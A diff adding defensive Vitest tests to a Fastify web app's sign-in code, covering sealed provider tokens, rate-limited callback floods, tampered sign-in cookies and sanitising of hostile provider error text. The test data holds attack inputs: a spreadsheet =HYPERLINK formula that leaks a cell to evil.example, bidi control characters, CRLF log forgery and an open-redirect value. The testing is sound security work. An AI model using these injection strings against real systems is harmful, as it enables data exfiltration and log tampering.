@@ -2,6 +2,9 @@ import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { AppConfig } from '../../src/server/config.js';
 import { Secret } from '../../src/server/secret.js';
+import { queryAudit } from '../../src/server/store/audit.js';
+import { findSession } from '../../src/server/store/sessions.js';
+import { sessionHash } from '../../src/server/plugins/sessions.js';
 import type { HistoryStore } from '../../src/server/store/history-store.js';
 import { startHistoryStack, type HistoryStack } from '../helpers/history-stack.js';
 import { openAppStore } from '../helpers/history-store.js';
@@ -296,5 +299,111 @@ describe('sessions', () => {
     expect(
       (await app.inject({ url: '/api/sessions', cookies: { grd_session: vera2 } })).statusCode,
     ).toBe(403);
+  });
+});
+
+describe('the provider’s tokens a session keeps', () => {
+  it('are sealed in the store and never answered, not even to an admin', async () => {
+    const ada = await signIn('ada');
+    const row = await findSession(store.db, sessionHash(ada));
+    const sealed = row?.providerGrant ?? '';
+    expect(sealed).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
+    expect(Buffer.from(sealed.split('.')[2] ?? '', 'base64url').toString('latin1')).not.toMatch(
+      /accessToken|idClaims|ada@example\.com/,
+    );
+    const listed = await app.inject({ url: '/api/sessions', cookies: { grd_session: ada } });
+    expect(listed.statusCode).toBe(200);
+    expect(listed.body).not.toMatch(/grant|token/i);
+  });
+});
+
+describe('failed callbacks (anyone can send one, signed in or not)', () => {
+  /** The failed sign-ins the audit log holds from these addresses. */
+  async function failuresFrom(addresses: Set<string>) {
+    const rows = await queryAudit(store.db, { action: 'sign-in failed' }, 100_000);
+    return rows.filter((row) => row.address !== null && addresses.has(row.address));
+  }
+
+  it('2,000 bogus callbacks from one address write a bounded number of audit entries, then 429', async () => {
+    const statuses = new Map<number, number>();
+    for (let i = 0; i < 2000; i++) {
+      const answer = await app.inject({
+        url: '/auth/callback?code=x&state=y',
+        remoteAddress: '198.51.100.7',
+      });
+      statuses.set(answer.statusCode, (statuses.get(answer.statusCode) ?? 0) + 1);
+    }
+    expect([...statuses.keys()].sort()).toEqual([400, 429]);
+    expect(statuses.get(400)).toBeLessThanOrEqual(12);
+    expect((await failuresFrom(new Set(['198.51.100.7']))).length).toBeLessThanOrEqual(12);
+  });
+
+  it('2,000 bogus callbacks from 2,000 addresses write a bounded number of audit entries', async () => {
+    const addresses = new Set<string>();
+    for (let i = 0; i < 2000; i++) {
+      const address = `198.18.${Math.floor(i / 250)}.${i % 250}`;
+      addresses.add(address);
+      const answer = await app.inject({
+        url: '/auth/callback?code=x&state=y',
+        remoteAddress: address,
+      });
+      expect(answer.statusCode).toBe(400);
+    }
+    const written = (await failuresFrom(addresses)).length;
+    expect(written).toBeGreaterThan(0);
+    expect(written).toBeLessThanOrEqual(110);
+  });
+
+  it('keeps only plain, bounded words of the provider: no bidi controls, no formula, no 500 characters', async () => {
+    const address = '203.0.113.9';
+    // The floods above used up the audit log's allowance of failed sign-ins: a minute refills it.
+    stack.clock.advance(2 * 60_000);
+    const start = await app.inject({ url: '/auth/login', remoteAddress: address });
+    const state = new URL(start.headers.location as string).searchParams.get('state') ?? '';
+    const hostile = {
+      error: '\u202Eaccess_denied\u202C',
+      error_description: `=HYPERLINK("https://evil.example/?"&A1,"Click")\u2066\r\nforged line ${'x'.repeat(500)}`,
+    };
+    const query = new URLSearchParams({ ...hostile, state, iss: provider.issuer });
+    const done = await app.inject({
+      url: `/auth/callback?${query}`,
+      remoteAddress: address,
+      cookies: { grd_signin: cookieOf(start, 'grd_signin') ?? '' },
+    });
+    expect(done.statusCode).toBe(400);
+    const [entry] = await failuresFrom(new Set([address]));
+    const detail = entry?.detail ?? '';
+    expect(detail).toMatch(
+      /^the identity provider refused the sign-in \(it said: access_denied; '=HYPERLINK/,
+    );
+    // The page shows the same words, HTML-escaped (&#39; is the ').
+    for (const stored of [detail, done.body.replaceAll('&#39;', "'")]) {
+      expect(stored).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r\n]forged/);
+      expect(stored).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
+      expect(stored).not.toMatch(/(^|[^'])=HYPERLINK\(/);
+    }
+    expect(detail.length).toBeLessThanOrEqual(300);
+    expect(detail).not.toContain('x'.repeat(200));
+  });
+});
+
+describe('the pending sign-in cookie', () => {
+  it('is signed: one altered to return elsewhere sends nobody anywhere and opens no session', async () => {
+    const { callback, pending } = await throughProvider('eddie');
+    const [payload = '', mac] = pending.split('.');
+    const value = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<
+      string,
+      unknown
+    >;
+    expect(value.returnTo).toBe('/map');
+    value.returnTo = 'https://evil.example/';
+    const altered = [Buffer.from(JSON.stringify(value)).toString('base64url'), mac]
+      .filter((part) => part !== undefined)
+      .join('.');
+    const done = await app.inject({ url: callback, cookies: { grd_signin: altered } });
+    expect(done.statusCode).toBe(400);
+    expect(done.headers.location).toBeUndefined();
+    expect(done.body).toContain('this browser has no sign-in in progress');
+    expect(cookieOf(done, 'grd_session')).toBeUndefined();
   });
 });
